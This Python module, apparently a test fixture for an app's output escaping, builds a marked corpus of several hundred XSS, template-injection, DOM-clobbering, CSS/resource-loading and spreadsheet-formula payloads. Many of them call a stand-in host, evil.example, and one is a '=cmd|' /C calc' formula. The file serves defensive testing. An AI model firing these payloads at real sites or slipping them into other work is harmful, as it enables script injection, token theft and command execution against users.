"""Texts that would run, load or become something if any page took them for more than text.

Each holds its own mark, so that it can be found wherever it is shown; `__xss` is what it would call
and `evil.example` where it would go. `@@` stands for the mark until the corpus is made.
"""

from __future__ import annotations

from typing import NamedTuple

X = "__xss(/@@/)"
EVIL = "//evil.example/@@"
IMG = f"<img src=x onerror={X}>"

SCRIPTS = [
    f"<script>{X}</script>",
    f"<SCRIPT>{X}</SCRIPT>",
    f"<script\n>{X}</script\n>",
    f"<script/x>{X}</script>",
    f"<script type=module>{X}</script>",
    f"<script async>{X}</script>",
    f"<script>{X}//",
    f"<<script>{X}//<</script>",
    f"<scr<script>ipt>{X}</scr</script>ipt>",
    f"<script src={EVIL}></script>",
    f"<script src=data:,{X}></script>",
    f"<script defer src=https:{EVIL}></script>",
    f"<svg><script>{X}</script></svg>",
    f"<svg><script href={EVIL} /></svg>",
    f"<math><script>{X}</script></math>",
    f"<script>/*</script>*/{X}</script>",
    f"<script nonce=x>{X}</script>",
    f'<script type="text/plain">{X}</script>',
    f"<script type=importmap>{{@@}}</script><script>{X}</script>",
]

ENDINGS = [  # of whatever the text may stand in
    f"{end}{IMG}"
    for end in (
        "</title>",
        "</textarea>",
        "</style>",
        "</script>",
        "</noscript>",
        "</template>",
        "</xmp>",
        "</iframe>",
        "</select>",
        "</option>",
        "</button>",
        "</svg>",
        "</p>",
        "</li></ol>",
        "</room-log>",
        "-->",
        "--!>",
        "]]>",
        "*/",
        "?>",
    )
]

HANDLERS = [
    IMG,
    f"<svg onload={X}>",
    f"<svg/onload={X}>",
    f"<body onload={X}>",
    f"<body onpageshow={X}>",
    f"<video src=x onerror={X}>",
    f"<video><source onerror={X}>",
    f"<audio src=x onerror={X}>",
    f"<details open ontoggle={X}>",
    f"<input autofocus onfocus={X}>",
    f"<select autofocus onfocus={X}>",
    f"<textarea autofocus onfocus={X}>",
    f"<button autofocus onfocus={X}>@@</button>",
    f"<a autofocus href=# onfocus={X}>@@</a>",
    f"<div contenteditable autofocus onfocus={X}>",
    f"<div tabindex=0 onmouseover={X}>@@</div>",
    f"<div onpointerenter={X}>@@</div>",
    f"<marquee onstart={X}>@@</marquee>",
    f"<iframe onload={X}>",
    f"<iframe src=x onload={X}>",
    f"<object data=x onerror={X}>",
    f"<embed src=x onerror={X}>",
    f"<link rel=stylesheet href=x onerror={X}>",
    f"<style onload={X}></style>",
    f"<form onsubmit={X}><button>@@</button></form>",
    f"<dialog open oncancel={X}>@@</dialog>",
    f"<div popover onbeforetoggle={X}>@@</div>",
    f"<math onmouseover={X}>@@</math>",
    f"<x onclick={X}>@@</x>",
    f"<x-y onclick={X}>@@</x-y>",
    f"<img src=x:x onerror={X}>",
    f"<img src=x onerror={X}//",
    f"<image src=x onerror={X}>",
    f"<picture><source srcset=x onerror={X}><img src=x onerror={X}></picture>",
    f"<div style=animation-name:x onanimationstart={X}>",
    f"<div style=content-visibility:auto oncontentvisibilityautostatechange={X}>",
]

QUOTINGS = [
    f'<img src="x" onerror="{X}">',
    f"<img src='x' onerror='{X}'>",
    f"<img src=`x` onerror=`{X}`>",
    f"<img/src=x/onerror={X}>",
    f"<img\nsrc=x\nonerror={X}>",
    f"<img\tsrc=x\tonerror={X}>",
    f"<img\x0csrc=x\x0conerror={X}>",
    f"<IMG SRC=x OnErRoR={X}>",
    f'<img """><img src=x onerror={X}>">',
    f"<img src=x onerror = {X} >",
    "<img src=x onerror=&#95;&#95;xss(/@@/)>",
    f"<img src=x onerror=\u200b{X}>",
    f"<img src=x onerror={X} <b>@@",
    f'<img title="<b>" src=x onerror={X}>',
]

BREAKOUTS = [  # out of an attribute, a string or a tag
    f'"{IMG}',
    f"'{IMG}",
    f'">{IMG}',
    f"'>{IMG}",
    f"\"'>{IMG}",
    f'"/><svg/onload={X}>',
    f'" onmouseover={X} x="',
    f"' onmouseover={X} x='",
    f"` onmouseover={X} x=`",
    f'" autofocus onfocus={X} tabindex=0 x="',
    f'" style=position:fixed;inset:0 onpointermove={X} "',
    f'x" src=x onerror="{X}',
    f'\\"{IMG}',
    f"\\'{IMG}",
    f"&quot;{IMG}",
    f"&#34;>{IMG}",
    f"%22%3E{IMG}",
    f'" data-does="@@" data-url="{EVIL}" x="',
    f'" hx-get="{EVIL}" hx-trigger="load" x="',
    f'" href="javascript:{X}" x="',
    f'" formaction="javascript:{X}" x="',
]

SCHEMES = [
    f"javascript:{X}",
    f"JaVaScRiPt:{X}",
    f"java\tscript:{X}",
    f"java&#x0A;script:{X}",
    f"&#106;avascript:{X}",
    f"javascript&colon;{X}",
    f"\x01javascript:{X}",
    f"%6Aavascript:{X}",
    f"javascript://evil.example/%0A{X}",
    f"data:text/html,<script>{X}</script>",
    "data:text/html;base64,QEA=#@@",
    f"data:image/svg+xml,<svg onload={X}>",
    f"vbscript:{X}",
    f"feed:javascript:{X}",
    f"view-source:javascript:{X}",
    f"blob:https:{EVIL}",
    "file:///etc/passwd#@@",
    f"ws:{EVIL}",
    EVIL,
]
LINKS = [
    form.replace("URL", scheme)
    for form in ("[@@](URL)", "<URL>", "![@@](URL)", "[@@](<URL>)", "[@@][1]\n\n[1]: URL")
    for scheme in SCHEMES
]

AROUND_LINKS = [
    f'[@@](https:{EVIL}"onmouseover="{X})',
    f'[@@](https:{EVIL} "x" onmouseover="{X}")',
    f"[@@](https:{EVIL} '\"><img src=x onerror={X}>')",
    f'<https:{EVIL}/"onclick={X}>',
    f'https:{EVIL}/"><script>{X}</script>',
    f"https:{EVIL}/'onmouseover='{X}",
    f"https:{EVIL}/<img/src=x/onerror={X}>",
    f"[<img src=x onerror={X}>](https:{EVIL})",
    f"[![@@](https:{EVIL}.png)](https:{EVIL})",
    f"![@@](https:{EVIL}.png)",
    f'![x"onerror="{X}](x)',
    f"[@@](#{X})",
    f"mailto:a@evil.example?body=<script>{X}</script>",
    f"[@@](mailto:%22{IMG}@evil.example)",
    f"@<img src=x onerror={X}>",
    f"@everyone<svg onload={X}>",
]

MARKDOWN = [
    f"`{IMG}`",
    f"```\n</code></pre>{IMG}\n```",
    f'```html" onmouseover={X}\n@@\n```',
    f"    </pre>{IMG}",
    f"> {IMG}",
    f"* {IMG}",
    f"1. {IMG}",
    f"**{IMG}**",
    f"~~{IMG}~~",
    f"_<b>_{IMG}</b>",
    f"<div>\n\n{IMG}\n\n</div>",
    f"<!-- @@ -->{IMG}",
    f"<!--[if gte IE 4]>{IMG}<![endif]-->",
    f"<![CDATA[{IMG}]]>",
    f"<?xml version='1.0'?>{IMG}",
    f"<!DOCTYPE x [<!ENTITY y '@@'>]>{IMG}",
    f"| @@ | {IMG} |\n| - | - |",
    f"# {IMG}",
    f"{IMG}\n===",
    f"[^1]: {IMG}",
    f"{{: onclick={X} }}",
    f"\\<img src=x onerror={X}\\>",
    f"\\\\{IMG}",
]

FOREIGN = [  # what turns into something else when it is read twice
    f"<math><mtext></p>{IMG}</math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{IMG}'>",
    f"<svg></p><style><a id='</style>{IMG}'>",
    f"<svg><style>{IMG}</style></svg>",
    f"<svg><title>{IMG}</title></svg>",
    f"<svg><desc>{IMG}</desc></svg>",
    f"<svg><foreignObject>{IMG}</foreignObject></svg>",
    f"<svg><animate onbegin={X} attributeName=x dur=1s>",
    f"<svg><set attributeName=onload to={X}>",
    f"<svg><a xlink:href=javascript:{X}><text y=9>@@</text></a></svg>",
    f"<svg><use href=data:image/svg+xml,{X}#x /></svg>",
    f"<svg><image href={EVIL} /></svg>",
    f"<svg><feImage href={EVIL} /></svg>",
    f"<math href=javascript:{X}>@@</math>",
    f"<math><annotation-xml encoding=text/html>{IMG}</annotation-xml></math>",
    f"<noscript><p title='</noscript>{IMG}'>",
    f"<template>{IMG}</template>",
    f"<template shadowrootmode=open>{IMG}</template>",
    f"<xmp><p title='</xmp>{IMG}'>",
    f"<listing>&lt;img src=x onerror={X}&gt;</listing>",
    f"<plaintext>{IMG}",
    f"<select><style></select>{IMG}</style>",
    f"<table><td><form>{IMG}</table>",
    f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
    f"<b <script>{X}//</script>0</script></b>",
    f"<a<b>{IMG}",
    f"</{IMG}",
    f"<%{IMG}%>",
]

TEMPLATES = [
    "{{ 7|add:7 }}@@",
    "{% debug %}@@",
    "{% include 'base.html' %}@@",
    "{{ request.user.password }}@@",
    f"{{{{constructor.constructor('{X}')()}}}}",
    f"${{{X}}}",
    f"#{{{X}}}",
    f"<%= {X} %>",
    f"[[{X}]]",
    f"<div hx-get={EVIL} hx-trigger=load>",
    f"<div data-hx-get={EVIL} data-hx-trigger=load>",
    f"<div hx-on:load={X}>@@</div>",
    f"<div hx-on::load='{X}'>@@</div>",
    f"<div hx-get=/ hx-trigger='load[{X}]'>@@</div>",
    f"<div hx-get=/ hx-vals='js:{{a:{X}}}' hx-trigger=load>@@</div>",
    "<div hx-ext=debug hx-swap-oob=true id=main>@@</div>",
    f"<div x-data x-init={X}>@@</div>",
    f"<div v-html={X} ng-app ng-init={X}>@@</div>",
]

STYLES = [
    f"<style>@import '{EVIL}';</style>",
    f"<style>*{{background:url({EVIL})}}</style>",
    f"<style>@font-face{{font-family:x;src:url({EVIL})}}</style>",
    f"<div style=background:url({EVIL})>@@</div>",
    f"<div style='width:expression({X})'>@@</div>",
    "<div style=position:fixed;inset:0;z-index:9>@@</div>",
    f"<link rel=stylesheet href={EVIL}>",
    f"<link rel=stylesheet href=data:,@import'{EVIL}'>",
    f"<svg><style>@import '{EVIL}';</style></svg>",
    "<div class='message__more toast app' id=main>@@</div>",
]

LOADING = [
    f"<meta http-equiv=refresh content=0;url={EVIL}>",
    f"<meta http-equiv=refresh content='0;javascript:{X}'>",
    "<meta http-equiv=Content-Security-Policy content=@@>",
    f"<base href={EVIL}>",
    f"<link rel=prefetch href={EVIL}>",
    f"<link rel=preload as=image href={EVIL}>",
    f"<link rel=dns-prefetch href={EVIL}>",
    f"<link rel=manifest href={EVIL}>",
    f"<link rel=modulepreload href={EVIL}>",
    f"<form action={EVIL}><button>@@</button></form>",
    f"<form id=a></form><button form=a formaction=javascript:{X}>@@</button>",
    f"<input type=image src={EVIL}>",
    f"<iframe src={EVIL}></iframe>",
    f"<iframe srcdoc='<script>parent.{X}</script>'></iframe>",
    f"<iframe src=javascript:parent.{X}></iframe>",
    f"<object data=javascript:{X}></object>",
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f"<frameset><frame src={EVIL}></frameset>",
    f"<applet code={EVIL}>",
    f"<img src={EVIL}>",
    f"<img srcset='{EVIL} 1x'>",
    f"<picture><source srcset={EVIL}><img></picture>",
    f"<video poster={EVIL}></video>",
    f"<video src={EVIL} autoplay></video>",
    f"<audio src={EVIL} autoplay></audio>",
    f"<video><track default src={EVIL}></video>",
    f"<body background={EVIL}>",
    f"<table background={EVIL}><td>@@</table>",
    f"<a href=/ ping={EVIL}>@@</a>",
    f"<map><area href=javascript:{X} shape=default></map>",
    f"<portal src={EVIL}></portal>",
    f"<fencedframe src={EVIL}></fencedframe>",
]

ENCODED = [
    f"&lt;script&gt;{X}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{X}",
    f"&#60;img src=x onerror={X}&#62;",
    f"&#x3c;img src=x onerror={X}&#x3e;",
    f"&LT;img src=x onerror={X}&GT;",
    f"&lt;img src=x onerror={X}>",
    f"\\u003cimg src=x onerror={X}\\u003e",
    f"\\x3cimg src=x onerror={X}\\x3e",
    f"\\74img src=x onerror={X}\\76",
    f"%3Cimg%20src=x%20onerror={X}%3E",
    f"%253Cimg src=x onerror={X}%253E",
    f"+ADw-script+AD4-{X}+ADw-/script+AD4-",
    f"\uff1cimg src=x onerror={X}\uff1e",
    f"\u2039script\u203a{X}",
    f"<\u200bscript>{X}</script>",
    f"<scr\u200dipt>{X}</scr\u200dipt>",
    f"<scr\u0130pt>{X}</scr\u0130pt>",
    f"<\u017fcript>{X}</\u017fcript>",
    f"\u202e<img src=x onerror={X}>\u202c",
    f"\u2066<img src=x onerror={X}>\u2069",
    f"\ufeff<img src=x onerror={X}>",
    f"\u2028<img src=x onerror={X}>\u2029",
    f"<im\u00adg src=x onerror={X}>",
    f"e\u0301<img src=x onerror={X}>",
]

IN_SCRIPTS = [  # out of JSON or a string in a script, or of an attribute that is read as JSON
    f"</script><script>{X}</script>",
    f"<!--<script>{X}",
    f'"}};{X};//',
    f"'}};{X};//",
    f'\\"}};{X};//',
    f"`}};{X};`",
    f'"-{X}-"',
    f"'-{X}-'",
    f"${{{X}}}`",
    f'","html":"{IMG}',
    f'{{"__proto__":{{"html":"{IMG}"}}}}',
    f"\u2028{X}\u2029",
]

NAMES = [  # of what scripts ask objects or the document for
    "__proto__ @@",
    "constructor @@",
    "toString @@",
    "hasOwnProperty @@",
    "<form name=getElementById id=room>@@</form>",
    "<form id=room><input name=dataset></form>@@",
    "<img name=body id=main>@@",
    "<img name=querySelector>@@",
    f"<a id=phrases href=javascript:{X}>@@</a>",
    "<a id=message-template><a id=message-template name=content>@@</a>",
    "<input name=cookie value=@@>",
    "<input id=csrf name=csrfmiddlewaretoken value=@@>",
    "<div id=toasts data-person=1 data-csrf=@@></div>",
    f"<room-log data-earlier-url={EVIL}></room-log>",
    f"<thread-panel data-url={EVIL}></thread-panel>",
    "<live-programme changes-in=0>@@</live-programme>",
    "<search-page>@@</search-page>",
]

FORMULAS = [
    "=1+1 @@",
    "+1+1 @@",
    "-1+1 @@",
    "@SUM(1+1) @@",
    '=HYPERLINK("https:' + EVIL + '","x")',
    "=cmd|' /C calc'!A0 @@",
    '=IMPORTXML("https:' + EVIL + '","/")',
    "\t=1+1 @@",
    '"=1+1","@@"',
]

FAMILIES = {
    "scripts": SCRIPTS,
    "endings": ENDINGS,
    "handlers": HANDLERS,
    "quotings": QUOTINGS,
    "breakouts": BREAKOUTS,
    "links": LINKS,
    "around links": AROUND_LINKS,
    "markdown": MARKDOWN,
    "foreign": FOREIGN,
    "templates": TEMPLATES,
    "styles": STYLES,
    "loading": LOADING,
    "encoded": ENCODED,
    "in scripts": IN_SCRIPTS,
    "names": NAMES,
    "formulas": FORMULAS,
}


class Payload(NamedTuple):
    mark: str
    text: str


def _corpus() -> list[Payload]:
    templates = dict.fromkeys(text for family in FAMILIES.values() for text in family)
    marks = (f"zz{number}z" for number in range(100, 100 + len(templates)))
    return [
        Payload(mark, text.replace("@@", mark)) for mark, text in zip(marks, templates, strict=True)
    ]


CORPUS = _corpus()
